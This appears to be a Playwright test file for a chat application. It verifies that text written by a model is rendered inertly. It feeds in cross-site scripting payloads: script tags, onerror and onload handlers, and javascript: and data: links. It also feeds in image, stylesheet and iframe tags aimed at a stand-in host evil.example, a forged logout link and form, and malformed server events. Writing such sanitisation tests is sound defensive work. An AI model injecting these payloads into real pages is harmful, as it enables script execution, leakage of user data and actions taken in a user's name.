import { expect, test } from "@playwright/test";
import { ChatPage } from "./pages/chat-page";
import { EntryPage } from "./pages/entry-page";
import { newPerson } from "./pages/person";

test("what a model writes is never markup of the page", async ({ page }) => {
  const outside: string[] = [];
  const dialogs: string[] = [];
  await page.route(/evil\.example/, (route) => {
    outside.push(route.request().url());
    return route.abort();
  });
  page.on("dialog", (dialog) => {
    dialogs.push(dialog.message());
    return dialog.dismiss();
  });
  await new EntryPage(page).register(newPerson());
  const chat = new ChatPage(page);

  await chat.ask(
    [
      "[[echo]] start <script>window.stolen = 1; alert(1)</script>",
      '<img src="https://evil.example/a.png" onerror="window.stolen = 2">',
      "[click me](javascript:window.stolen=3)",
      "![picture](https://evil.example/b.png?who=you)",
      "[plain](https://example.com/page)",
      "<svg/onload=window.stolen=4>",
      "end",
    ].join("\n\n"),
  );

  const answer = chat.answers.first();
  await expect(answer).toContainText("end");
  await chat.settled();
  await expect(answer).toContainText("<script>window.stolen = 1; alert(1)</script>");
  await expect(answer.locator("script, img, iframe, svg[onload], [onerror]")).toHaveCount(0);
  await expect(answer.locator('[href^="javascript:" i]')).toHaveCount(0);
  await answer.getByText("click me").click();
  await expect(answer.getByRole("link", { name: "plain" })).toHaveAttribute("href", "https://example.com/page");
  await expect(answer.getByRole("link", { name: "Image: picture" })).toHaveAttribute("rel", /noreferrer/);

  await page.reload();
  await expect(answer).toContainText("end");
  await expect(answer.locator("script, img, iframe")).toHaveCount(0);
  expect(await page.evaluate(() => (window as { stolen?: number }).stolen)).toBeUndefined();
  expect(outside).toEqual([]);
  expect(dialogs).toEqual([]);
});

test("nothing that a model writes reaches out, runs, or acts in the reader's name", async ({ page }) => {
  await new EntryPage(page).register(newPerson());
  const outside: string[] = [];
  page.on("request", (request) => {
    if (new URL(request.url()).host !== new URL(page.url()).host && !request.url().startsWith("blob:")) {
      outside.push(request.url());
    }
  });
  const chat = new ChatPage(page);
  const refused: string[] = [];
  page.on("console", (message) => {
    if (/Content.Security.Policy/i.test(message.text())) refused.push(message.text());
  });

  await chat.ask(
    [
      "[[echo]] start",
      "[sign out](/api/auth/logout) [shout](JaVaScRiPt:alert(1)) [page](data:text/html,<script>alert(1)</script>)",
      "[spaced](<java\tscript:alert(1)>) [user](https://you:secret@example.com/) [protocol](//evil.example/x)",
      "![a](https://evil.example/1.png) ![b](data:image/svg+xml,<svg/onload=alert(1)>) ![c][ref]",
      "[ref]: https://evil.example/2.png",
      "<https://example.com/auto> and https://example.com/bare",
      '<iframe srcdoc="<script>window.stolen=1</script>"></iframe><object data="https://evil.example/o"></object>',
      '<style>@import "https://evil.example/s.css"; body { display: none }</style>',
      '<link rel="stylesheet" href="https://evil.example/l.css"><meta http-equiv="refresh" content="0;url=https://evil.example">',
      '<form action="/api/auth/logout" method="post"><button>Press me</button></form>',
      "```html\n<script>window.stolen = 2</script>\n```",
      "| <img src=x onerror=window.stolen=3> | b |\n| --- | --- |\n| [x](javascript:window.stolen=4) | <svg onload=window.stolen=5> |",
      "end",
    ].join("\n\n"),
  );
  const answer = chat.answers.first();
  await expect(answer).toContainText("end");
  await chat.settled();

  for (const again of [false, true]) {
    if (again) await page.reload();
    await expect(answer).toContainText("end");
    const prose = answer.locator(".prose");
    await expect(prose.locator("script, img, iframe, object, embed, style, link, meta, form, [onerror], [onload], [srcdoc]")).toHaveCount(0);
    await expect(prose.locator("[src], [action], [formaction], [ping], [background]")).toHaveCount(0);
    const links = await prose.locator("a").evaluateAll((all) =>
      all.map((one) => ({ href: one.getAttribute("href") ?? "", rel: one.getAttribute("rel"), target: one.getAttribute("target") })),
    );
    expect(links.length).toBeGreaterThan(2);
    for (const { href, rel, target } of links) {
      expect(href).toMatch(/^(https?:\/\/|mailto:)[^@]*$/);
      expect(rel).toBe("noopener noreferrer nofollow");
      expect(target).toBe("_blank");
    }
    expect(await prose.locator("button").allInnerTexts()).not.toContain("Press me");
  }
  await expect(page.locator("body")).toBeVisible();
  expect(await page.evaluate(() => (window as { stolen?: number }).stolen)).toBeUndefined();
  expect(outside).toEqual([]);
  expect(refused).toEqual([]);
});

test("events that this page does not know are passed over, and broken ones too", async ({ page }) => {
  await new EntryPage(page).register(newPerson());
  const chat = new ChatPage(page);
  await page.route(/\/api\/conversations\/\w+\/turns$/, async (route) => {
    const response = await route.fetch();
    const frames = (await response.text()).split("\n\n").filter(Boolean);
    const odd = [
      'event: turn.levitated\ndata: {"text":"from nowhere"}',
      "event: turn.status\ndata: not json",
      'event: turn.status\ndata: {"state":"<b>odd</b>"}',
      "data: no name",
      ": a comment",
    ];
    await route.fulfill({ response, body: [frames[0], ...odd, ...frames.slice(1), ...odd].join("\n\n") + "\n\n" });
  });
  await chat.ask("[[echo]] only these words");
  await chat.settled();
  await expect(chat.answers.first().locator(".prose")).toHaveText("only these words");
});
